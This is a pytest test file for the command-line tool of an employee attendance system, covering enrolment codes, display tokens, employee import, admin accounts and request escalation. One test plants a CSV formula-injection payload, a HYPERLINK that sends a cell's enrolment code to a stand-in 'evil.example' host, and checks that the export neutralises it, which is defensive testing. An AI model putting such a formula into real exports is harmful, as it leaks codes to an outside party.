from __future__ import annotations

import json
import os
import stat
from pathlib import Path
from typing import Any

import pytest
import sqlalchemy as sa
from starlette.testclient import TestClient

from backend import tokens
from backend.accounts import verify_password
from backend.app import create_app
from backend.cli import build_parser, main
from backend.db import admin_users, employees
from tests.client import Phone
from tests.conftest import QR_KEYS, app_db, run


def cli_environment(tmp_path: Path, database_url: str, monkeypatch: pytest.MonkeyPatch) -> None:
    """The settings a CLI run reads, pointed at this test's database and data directory."""
    env = {
        "PRESENSI_DATA_DIR": str(tmp_path / "data"),
        "PRESENSI_DATABASE_URL": database_url,
        "PRESENSI_PUBLIC_URL": "https://presensi.test",
        "PRESENSI_QR_KEYS": QR_KEYS,
        "PRESENSI_SECRET_KEY": "test-secret-key-0123456789",
    }
    for key, value in env.items():
        monkeypatch.setenv(key, value)


@pytest.fixture
def cli(
    tmp_path: Path,
    database_url: str,
    monkeypatch: pytest.MonkeyPatch,
    capsys: pytest.CaptureFixture[str],
):  # type: ignore[no-untyped-def]
    cli_environment(tmp_path, database_url, monkeypatch)
    monkeypatch.chdir(tmp_path)

    def invoke(*argv: str, status: int = 0) -> tuple[str, str]:
        code = main(list(argv))
        out, err = capsys.readouterr()
        assert code == status, (argv, out, err)
        return out, err

    return invoke


def last_line(text: str) -> str:
    return text.strip().splitlines()[-1]


def demo(cli: Any, *extra: str) -> dict[str, Any]:
    return json.loads(last_line(cli("demo", "--json", *extra)[0]))


def test_demo_is_idempotent(cli: Any) -> None:
    first = demo(cli)
    assert set(first) >= {"office", "display", "employees", "admin"}
    assert len(first["employees"]) == 20
    assert first["admin"]["username"] == "admin" and len(first["admin"]["password"]) >= 10
    second = demo(cli)
    assert second["office"] == first["office"]
    assert second["display"]["id"] == first["display"]["id"]
    assert second["employees"] == first["employees"]
    assert len(demo(cli, "--employees", "25")["employees"]) == 25


def test_demo_prints_how_to_use_it(cli: Any) -> None:
    out, _ = cli("demo")
    assert "/display" in out and "/admin/login" in out and "/s" in out and "password" in out


def test_enrolment_code_enrols_a_phone(cli: Any, tmp_path: Path, database_url: str) -> None:
    nip = demo(cli)["employees"][0]["nip"]
    code = last_line(cli("enrolment-code", f"\u3000{nip[:8]} {nip[8:]}\xa0")[0])  # as pasted
    assert len(code) == 8
    from backend.settings import load_settings

    with TestClient(create_app(load_settings()), base_url="https://presensi.test") as client:
        assert Phone(client).enrol(nip, code).status_code == 201
    _, err = cli("enrolment-code", "000000000000000000", status=2)
    assert "no employee" in err


def test_enrolment_codes_for_everyone_without_a_phone(cli: Any, tmp_path: Path) -> None:
    info = demo(cli)
    first_code = last_line(cli("enrolment-code", info["employees"][0]["nip"])[0])
    from backend.settings import load_settings

    with TestClient(create_app(load_settings()), base_url="https://presensi.test") as client:
        assert Phone(client).enrol(info["employees"][0]["nip"], first_code).status_code == 201
    target = tmp_path / "codes.csv"
    cli("enrolment-code", "--all", "--csv", str(target))
    rows = target.read_text(encoding="utf-8-sig").strip().splitlines()
    assert rows[0] == '"nip","name","code"'
    assert len(rows) == 1 + 19  # everyone but the one with a phone
    assert info["employees"][0]["nip"] not in target.read_text()
    assert stat.S_IMODE(os.stat(target).st_mode) == 0o600


def test_enrolment_code_csv_keeps_a_formula_name_text(
    cli: Any, tmp_path: Path, database_url: str
) -> None:
    import asyncio
    import csv

    from backend.db import make_database

    info = demo(cli)
    nip = info["employees"][0]["nip"]
    evil = '=HYPERLINK("http://evil.example/?c="&C2,"klik")'

    async def rename() -> None:
        db = make_database(database_url)
        await db.connect()
        try:
            await db.execute(employees.update().where(employees.c.nip == nip).values(name=evil))
        finally:
            await db.disconnect()

    asyncio.run(rename())
    target = tmp_path / "codes.csv"
    cli("enrolment-code", "--all", "--csv", str(target))
    with target.open(encoding="utf-8-sig", newline="") as f:
        names = {row["nip"]: row["name"] for row in csv.DictReader(f)}
    assert names[nip] == "'" + evil


def test_display_add_and_token(cli: Any) -> None:
    office = demo(cli)["office"]["id"]
    code = last_line(cli("display", "add", str(office), "--name", "Layar Aula")[0])
    assert len(code) == 8
    _, err = cli("display", "add", "9999", status=2)
    assert "no office" in err
    from backend.settings import load_settings

    settings = load_settings()
    url = last_line(cli("display", "token", "2")[0])
    assert url.startswith("https://presensi.test/s#v1.")
    token = tokens.verify(
        settings.qr_keys, url.split("#", 1)[1], period=settings.qr_period, grace_windows=1
    )
    assert token.display_id == 2
    with_qr, _ = cli("display", "token", "2", "--qr")
    assert "█" in with_qr or "▀" in with_qr
    assert last_line(with_qr).startswith("https://presensi.test/s#")
    cli("display", "token", "77", status=2)


def test_employee_add_validates_the_nip(cli: Any, database_url: str) -> None:
    demo(cli)
    cli(
        "employee",
        "add",
        "--nip",
        "199001012015011001",
        "--name",
        "Rahmat Hidayat",
        "--unit",
        "DISKOMINFO",
    )
    _, err = cli(
        "employee", "add", "--nip", "12345", "--name", "X", "--unit", "DISKOMINFO", status=2
    )
    assert "18 digits" in err
    cli(
        "employee",
        "add",
        "--nip",
        "K-0042",
        "--name",
        "Tenaga Kontrak",
        "--unit",
        "DISKOMINFO",
        "--kind",
        "contract",
    )
    _, err = cli(
        "employee",
        "add",
        "--nip",
        "199001012015011001",
        "--name",
        "Dup",
        "--unit",
        "DISKOMINFO",
        status=2,
    )
    assert "already exists" in err


def test_employee_import_is_all_or_nothing(cli: Any, tmp_path: Path, database_url: str) -> None:
    demo(cli)
    good = [f"1985010120100110{i:02d},Pegawai {i},DISKOMINFO" for i in range(30)]
    bad = [
        *good[:10],
        "123,Too Short,DISKOMINFO",
        *good[10:20],
        f"{good[0]}",
        "198501012010011099,X,NO_SUCH_UNIT",
    ]
    path = tmp_path / "staff.csv"
    path.write_text("nip,name,unit\n" + "\n".join(bad) + "\n")
    _, err = cli("employee", "import", str(path), status=2)
    assert f"{path}:12:" in err and "18 digits" in err
    assert "repeats line 2" in err and "unknown unit" in err
    assert "nothing was imported" in err
    path.write_text("nip,name,unit\n" + "\n".join(good) + "\n")
    assert "30 employees would be imported" in cli("employee", "import", str(path), "--dry-run")[0]
    assert "30 employees imported" in cli("employee", "import", str(path))[0]
    from backend.settings import load_settings

    with TestClient(create_app(load_settings())) as client:
        total = run(
            client, app_db(client).fetch_val, sa.select(sa.func.count()).select_from(employees)
        )
    assert total == 20 + 30


def test_admin_create(cli: Any) -> None:
    demo(cli)
    out, _ = cli(
        "admin",
        "create",
        "--username",
        "tu.diskominfo",
        "--role",
        "unit_operator",
        "--unit-id",
        "1",
    )
    password = last_line(out).removeprefix("password ")
    from backend.settings import load_settings

    with TestClient(create_app(load_settings())) as client:
        row = run(
            client,
            app_db(client).fetch_one,
            admin_users.select().where(admin_users.c.username == "tu.diskominfo"),
        )
    assert row["role"] == "unit_operator" and row["password_hash"].startswith("$argon2id$")
    assert verify_password(row["password_hash"], password)
    _, err = cli("admin", "create", "--username", "x", "--role", "unit_operator", status=2)
    assert "needs --unit" in err


def test_serve_refuses_several_workers_on_sqlite(
    tmp_path: Path, monkeypatch: pytest.MonkeyPatch, capsys: pytest.CaptureFixture[str]
) -> None:
    monkeypatch.setenv("PRESENSI_DATA_DIR", str(tmp_path))
    monkeypatch.delenv("PRESENSI_DATABASE_URL", raising=False)
    assert main(["serve", "--workers", "2"]) == 2
    assert "PostgreSQL" in capsys.readouterr().err


def subcommands(parser: Any, prefix: tuple[str, ...] = ()) -> list[tuple[str, ...]]:
    import argparse

    found = [prefix]
    for action in parser._actions:
        if isinstance(action, argparse._SubParsersAction):
            for name, sub in action.choices.items():
                found += subcommands(sub, (*prefix, name))
    return found


@pytest.mark.parametrize(
    "command", subcommands(build_parser()), ids=lambda c: " ".join(c) or "presensi"
)
def test_every_command_has_help(
    command: tuple[str, ...], capsys: pytest.CaptureFixture[str]
) -> None:
    with pytest.raises(SystemExit) as exit_info:
        main([*command, "--help"])
    assert exit_info.value.code == 0
    assert "usage: presensi" in capsys.readouterr().out


def test_requests_escalate_moves_what_waited_too_long(cli: Any, database_url: str) -> None:
    import asyncio
    from datetime import date, timedelta

    from backend.db import make_database, request_events, staff_requests, utcnow

    info = demo(cli, "--employees", "2")
    staff, boss = (e["nip"] for e in info["employees"])

    async def setup() -> None:
        db = make_database(database_url)
        await db.connect()
        try:
            ids = {r["nip"]: r["id"] for r in await db.fetch_all(employees.select())}
            await db.execute(
                employees.update()
                .where(employees.c.id == ids[staff])
                .values(supervisor_id=ids[boss])
            )
            old = utcnow() - timedelta(days=14)
            await db.execute(
                staff_requests.insert().values(
                    employee_id=ids[staff],
                    kind="absence",
                    absence_kind="izin",
                    start_date=date(2026, 12, 3),
                    end_date=date(2026, 12, 3),
                    reason="x",
                    status="pending",
                    holder_id=ids[boss],
                    held_since=old,
                    created_at=old,
                )
            )
        finally:
            await db.disconnect()

    async def events() -> list[str]:
        db = make_database(database_url)
        await db.connect()
        try:
            return [r["action"] for r in await db.fetch_all(request_events.select())]
        finally:
            await db.disconnect()

    asyncio.run(setup())
    # 14 calendar days are 10 working days: not yet 30.
    assert last_line(cli("requests", "escalate", "--days", "30")[0]).startswith("0 undecided")
    out, _err = cli("requests", "escalate")
    assert last_line(out) == "1 undecided requests moved up after 3 working days"
    assert asyncio.run(events()) == ["escalated"]
    assert last_line(cli("requests", "escalate")[0]).startswith("0 undecided")
    assert "--days" in cli("requests", "escalate", "--days", "0", status=2)[1]


def test_api_token_create_prints_the_token_last_and_audits(cli: Any) -> None:
    demo(cli)
    out, _ = cli("api-token", "create", "--name", "simpeg", "--role", "leader", "--agency-id", "1")
    raw = last_line(out)
    assert raw.startswith("pst_") and " " not in raw
    from backend.db import api_tokens, audit_log
    from backend.settings import load_settings

    with TestClient(create_app(load_settings())) as client:
        me = client.get("/api/v1/admin/me", headers={"Authorization": f"Bearer {raw}"})
        assert me.status_code == 200
        assert me.json() | {} == {"name": "simpeg", "role": "leader", "agency_id": 1,
                                  "unit_id": None}  # fmt: skip
        entry = run(
            client,
            app_db(client).fetch_one,
            audit_log.select().where(audit_log.c.action == "api_token.create"),
        )
        row = run(client, app_db(client).fetch_one, api_tokens.select())
    assert entry["actor"] == "cli" and raw not in entry["detail"]
    assert row["created_by"] is None
    _, err = cli("api-token", "create", "--name", "x", "--role", "unit_operator", status=2)
    assert "unit" in err
